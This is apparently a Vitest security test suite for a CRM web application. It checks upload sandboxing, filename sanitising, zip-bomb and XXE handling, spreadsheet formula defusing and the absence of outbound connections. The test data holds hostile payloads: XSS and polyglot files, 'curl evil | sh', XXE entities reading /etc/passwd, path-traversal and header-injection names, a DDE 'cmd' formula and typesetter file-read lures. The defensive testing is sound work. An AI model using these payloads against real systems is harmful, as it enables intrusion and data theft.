/**
 * What comes in as a file goes out as one and is never run: uploads of every disguise, cells that spreadsheets would run as formulas, archives
 * that unpack to the moon, names that are paths. And the server asks nobody: neither a user's text nor a document makes it open a
 * connection or a file.
 */
import { channel, subscribe, unsubscribe } from 'node:diagnostics_channel'
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import { type Server, createServer } from 'node:http'
import type { AddressInfo, Socket } from 'node:net'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { NodeCompiler } from '@myriaddreamin/typst-ts-node-compiler'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { bookOf, zipOf } from '../src/lib/tabular/made.ts'
import { open, rows } from '../src/lib/tabular/open.ts'
import { defuse, restore } from '../src/lib/tabular/defuse.ts'
import { type App, startApp } from './support/app.ts'
import { csvOf, importTable } from './support/imports.ts'
import { bare, pagesOf } from './support/pdf.ts'

const folder = mkdtempSync(path.join(tmpdir(), 'guanxi-content-'))
let app: App
beforeAll(async () => void (app = await startApp()))
afterAll(async () => {
  await app?.stop()
  rmSync(folder, { recursive: true, force: true })
})

const bytes = (text: string) => Buffer.from(text, 'latin1')
const authorised = () => ({ authorization: `Bearer ${app.keys.administrator}` })

describe('files', () => {
  const script = '<script>alert(1)</script>'
  const disguised: [string, Buffer][] = [
    ['page.html', Buffer.from(`<!doctype html>${script}`)],
    ['page.html', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`<html>${script}`, 'utf16le')])],
    ['page.xhtml', Buffer.from(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`)],
    ['drawing.svg', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`)],
    ['photo.png', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`)],
    ['photo.jpg', Buffer.concat([bytes('\xff\xd8\xff\xe0'), Buffer.from(`*/=1/*${script}*/alert(1)//`)])],
    ['photo.gif', bytes(`GIF89a/*${script}*/=1;alert(1)`)],
    ['paper.pdf', bytes(`%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj ${script}`)],
    ['invoice.pdf.exe', bytes('MZ\x90\0\x03\0\0\0')],
    ['invoice.pdf', bytes('MZ\x90\0\x03\0\0\0')],
    ['run.sh', Buffer.from('#!/bin/sh\ncurl evil | sh')],
    ['app.js', Buffer.from('alert(1)')],
    ['worker.mjs', Buffer.from('self.onfetch=()=>{}')],
    ['style.css', Buffer.from('body{background:url(http://gx.invalid)}')],
    ['manifest.webmanifest', Buffer.from('{"start_url":"http://gx.invalid"}')],
    ['feed.xml', Buffer.from('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')],
    ['macro.docm', zipOf({ '[Content_Types].xml': '<Types/>', 'word/vbaProject.bin': 'x' })],
    ['page.mht', Buffer.from(`MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${script}`)],
    ['empty.html', Buffer.alloc(0)],
  ]
  /** What a browser would run or show in our place. */
  const runs = /html|svg|xml|javascript|ecmascript|css|wasm|manifest|multipart|message/

  async function sent(name: string, content: Buffer) {
    const form = new FormData()
    form.append('file', new Blob([new Uint8Array(content)], { type: 'text/html' }), name)
    const answer = await fetch(`${app.url}/api/v1/files`, { method: 'POST', headers: authorised(), body: form })
    return { status: answer.status, body: (await answer.json()) as { files: { id: string; name: string }[] } }
  }

  const fetched = (id: string, more: RequestInit = {}) =>
    fetch(`${app.url}/api/v1/files/${id}`, { ...more, headers: { ...authorised(), ...more.headers } })

  test.each(disguised)('%s is a download in a sandbox, of a kind that no browser runs', async (name, content) => {
    const { status, body } = await sent(name, content)
    expect(status).toBe(201)
    const answers = [await fetched(body.files[0]!.id), await fetched(body.files[0]!.id, { method: 'HEAD' }), await fetched(body.files[0]!.id, { headers: { accept: 'text/html', range: 'bytes=0-10' } })] // prettier-ignore
    for (const answer of answers) {
      expect(answer.headers.get('content-type')).not.toMatch(/^(?!application\/vnd\.openxml).*(html|svg|xml|script|css|wasm|manifest)/)
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff')
      expect(answer.headers.get('content-disposition')).toMatch(/^attachment; /)
      expect(answer.headers.get('content-security-policy')).toMatch(/^default-src 'none';.* sandbox$/)
      expect(answer.headers.get('cross-origin-resource-policy')).toBe('same-origin')
    }
    expect(Buffer.from(await answers[0]!.arrayBuffer())).toEqual(content)
    // the twin: by its name, as servers of files do it, some would be run
    expect(runs.test('text/html; image/svg+xml')).toBe(true)
  })

  test.each([
    ['../../../etc/cron.d/evil'],
    ['..\\..\\windows\\system32\\evil.dll'],
    ['/etc/passwd'],
    ['C:\\boot.ini'],
    ['a\0.pdf'],
    ['invoice\u202efdp.exe'],
    ['CON'],
    ['nul.txt'],
    ['com1.pdf'],
    ['LPT9'],
    ['a.pdf.'],
    ['a.pdf   '],
    ['....'],
    ['file:///etc/passwd'],
    ['a%2f..%2fb.txt'],
    ['%00.txt'],
    ['"; filename=evil.html; x="'],
    ['a\r\nSet-Cookie: x=1'],
    ['名'.repeat(400)],
    ['\ud800.txt'],
    ['<img src=x onerror=alert(1)>.png'],
  ])('a file called %j lies where we put it, and is saved under a name that every disk takes', async (name) => {
    const before = files()
    const { status, body } = await sent(name, Buffer.from(`inhalt ${name}`))
    expect(status).toBe(201)
    const kept = body.files[0]!.name
    expect(kept).toMatch(/^[^\\/:*?"<>|\p{Cc}\u202a-\u202e\u2066-\u2069]{1,210}$/u)
    expect(kept).not.toMatch(/^(con|prn|aux|nul|com\d|lpt\d)(\.|$)|[. ]$|^\.+$/i)
    expect(kept.isWellFormed()).toBe(true)
    const header = (await fetched(body.files[0]!.id)).headers.get('content-disposition')!
    expect(header).toMatch(/^attachment; filename="[^"\\\r\n]+"; filename\*=UTF-8''[\w!#$&+.^`|~%-]+$/)
    const made = files().filter((one) => !before.includes(one))
    expect(made).toHaveLength(1)
    expect(made[0]).toMatch(/^[0-9a-f-]{36}\/[0-9a-f]{2}\/[0-9a-f]{64}$/)
  })

  const files = () =>
    readdirSync(app.house.files, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => path.relative(app.house.files, path.join(entry.parentPath, entry.name)))

  test.each<[string, Buffer, number, string]>([
    [
      'a workbook that unpacks a thousandfold',
      bookOf(`<sheetData>${`<row><c t="inlineStr"><is><t>${'0'.repeat(2 ** 20)}</t></is></c></row>`.repeat(8)}</sheetData>`),
      422,
      'zip-bomb',
    ],
    ['an archive that lies about its sizes', zipOf({ 'xl/workbook.xml': 'x', b: 'y' }, { b: 2 ** 31 }), 422, 'zip-bomb'],
    [
      'entities within entities',
      bookOf(
        '<!DOCTYPE lolz [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><sheetData><row><c t="inlineStr"><is><t>&b;</t></is></c></row></sheetData>',
      ),
      201,
      '',
    ],
    [
      'an entity of a file',
      bookOf(
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><sheetData><row><c t="inlineStr"><is><t>&e;</t></is></c></row></sheetData>',
      ),
      201,
      '',
    ],
  ])('%s is refused, or read as it stands', async (_, content, status, code) => {
    const form = new FormData()
    form.set('object', 'leads')
    form.set('file', new Blob([new Uint8Array(content)]), '../../名单\0.xlsx')
    const answer = await fetch(`${app.url}/api/v1/imports`, { method: 'POST', headers: authorised(), body: form })
    const said = await answer.text()
    expect([answer.status, JSON.parse(said).code ?? '']).toEqual([status, code])
    expect(said).not.toMatch(/root:|aaaaaaaaaaaaaaaaaaaa|\.\.\//)
  })
})

describe('formulas', () => {
  const cells = [
    '=1+1',
    '=HYPERLINK("http://gx.invalid","x")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '＝1+1',
    '＋1',
    '－1+1',
    '＠SUM(1)',
    "'=1",
    "''=1",
    '=',
    '%0A=1',
    ';=1+1',
  ]
  const leading = ['\t=1', '\r=1', '\n=1', ' =1', '\u3000=1', '\ufeff=1', '\u00a0=1', '\v=1']

  test.each([...cells.slice(0, 10), ...leading])('%j leaves with an apostrophe, and comes back without', (text) => {
    expect(defuse(text)).toBe(`'${text}`)
    expect(restore(defuse(text))).toBe(text)
  })

  test.each(['csv', 'xlsx'])(
    'what a record says goes through a file of %s and back unchanged, and no cell of it is a formula',
    async (format) => {
      const created = await app.as.administrator('POST', '/accounts/batch', {
        create: cells.map((name, i) => ({ name: `${name}`, region: `${format}${i}`, note: name })),
      })
      expect(created.status).toBe(200)
      const filter = encodeURIComponent(JSON.stringify({ field: 'region', op: 'startsWith', value: format }))
      const answer = await fetch(
        `${app.url}/api/v1/accounts/export?format=${format}&fields=name,note,region&sort=createdAt&filter=${filter}`,
        { headers: authorised() },
      )
      const file = path.join(folder, `out.${format}`)
      const content = Buffer.from(await answer.arrayBuffer())
      writeFileSync(file, content)
      if (format === 'csv') expect(content.toString()).not.toMatch(/(^|,|\n)"?[\s\ufeff]*[=+@＝＋－＠](?!$)/m)
      const opened = await open(file, { headerRow: 0 })
      const found: string[][] = []
      for await (const batch of rows(file, opened)) found.push(...batch.map((row) => row.cells))
      expect(found.map(([name]) => name)).toEqual(cells)
      const done = await importTable(app, 'administrator', 'leads', [['姓名', '公司'], ...found.map(([name, note]) => [name!, note!])])
      expect(done.failed).toBe(0)
    },
  )

  test('the twin: written as it stands, a formula is noticed', () => {
    expect(csvOf([['=1+1', 'x']])).toMatch(/(^|,|\n)"?[=+@]/)
  })
})

describe('the server asks nobody', () => {
  let canary: Server
  let base: string
  let hits: string[]
  beforeAll(async () => {
    canary = createServer((request, reply) => {
      hits.push(request.url!)
      reply.end('canary')
    })
    await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve))
    base = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`
    hits = []
  })
  afterAll(() => void canary?.close())

  /** Connections that this process opens meanwhile, but to the server itself and to PostgreSQL. */
  async function opened(deed: () => Promise<unknown>): Promise<string[]> {
    const sockets: Socket[] = []
    const see = (message: unknown) => void sockets.push((message as { socket: Socket }).socket)
    subscribe('net.client.socket', see)
    await deed()
    unsubscribe('net.client.socket', see)
    const own = [new URL(app.url).port, new URL(app.fresh.runtimeUrl).port]
    return sockets
      .filter((socket) => socket.remotePort !== undefined && !own.includes(String(socket.remotePort)))
      .map((socket) => `${socket.remoteAddress}:${socket.remotePort}`)
  }

  const lures = () => [
    `${base}/a.png`, `![x](${base}/b.png)`, `<img src="${base}/c.png">`, `#image("${base}/d.png")`, `#image("/etc/passwd")`,
    '#read("/etc/passwd")', '#include "/etc/passwd"', '#import "@preview/cetz:0.3.0"', `#import "${base}/e.typ"`, `#link("${base}/f")[x]`,
    '#sys.inputs', '#eval("1+1")', '#plugin("/etc/passwd")', '#csv("/etc/passwd")', `=WEBSERVICE("${base}/g")`, 'file:///etc/passwd', '\\input{/etc/passwd}',
  ] // prettier-ignore

  test('not for a web site, a note, an import or a paper, whatever addresses stand there', async () => {
    const call = app.as.administrator
    const strange = await opened(async () => {
      const site = `${base.replace('127.0.0.1', 'localhost')}/site`
      const account = (await call('POST', '/accounts', { name: lures()[2], website: site, note: lures().join('\n'), address: lures()[3] }))
        .body.id
      await call('POST', '/activities', { kind: 'note', text: lures().join('\n'), account })
      await importTable(app, 'administrator', 'leads', [['姓名', '备注'], ...lures().map((text, i) => [`甲${i}`, text])])
      const quote = await call('POST', '/quotes', {
        account,
        terms: lures().slice(8).join('\n'),
        lines: lures().map((text) => ({ description: text.slice(0, 100), specification: text.slice(0, 100), quantity: '1', price: '100' })),
      })
      expect(quote.status, JSON.stringify(quote.body)).toBe(201)
      const pdf = await fetch(`${app.url}/api/v1/quotes/${quote.body.id}/document.pdf`, { headers: authorised() })
      expect(pdf.status).toBe(200)
      const said = bare((await pagesOf(new Uint8Array(await pdf.arrayBuffer()))).join())
      // what looks like an order to the typesetter is printed as it was written, and what it would fetch is not there
      expect(said).toContain(bare('#read("/etc/passwd")'))
      expect(said).not.toMatch(/root:|canary/)
    })
    expect(strange).toEqual([])
    expect(hits).toEqual([])
  })

  test('the twin: one request, and a text that is set as an order, are noticed', async () => {
    expect(await opened(() => fetch(`${base}/twin`).then((answer) => answer.text()))).toEqual([expect.stringContaining(new URL(base).port)])
    expect(hits.splice(0)).toEqual(['/twin'])
    const main = path.join(folder, 'main.typ')
    writeFileSync(main, '#eval(sys.inputs.text, mode: "markup")')
    writeFileSync(path.join(folder, 'secret.txt'), 'root:x:0:0')
    const compiler = NodeCompiler.create({ workspace: folder })
    const outcome = compiler.compile({ mainFilePath: main, inputs: { text: '#read("secret.txt")' } })
    expect(outcome.takeError()?.shortDiagnostics ?? []).toEqual([])
    expect(outcome.result).toBeTruthy()
    expect(channel('net.client.socket').hasSubscribers).toBe(false)
  })
})
